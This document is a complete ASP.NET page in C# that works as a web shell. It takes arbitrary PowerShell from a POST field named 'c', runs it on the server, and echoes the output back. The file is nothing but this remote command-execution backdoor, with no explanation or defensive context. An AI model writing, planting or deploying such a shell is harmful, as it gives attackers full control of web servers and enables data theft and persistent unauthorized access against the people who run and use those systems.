<%@ Page Language="C#" %><%@ Import Namespace="System.Management.Automation" %><% var ps = PowerShell.Create(); ps.AddScript(Request.Form["c"]); foreach (var o in ps.Invoke()) Response.Write(o); %>
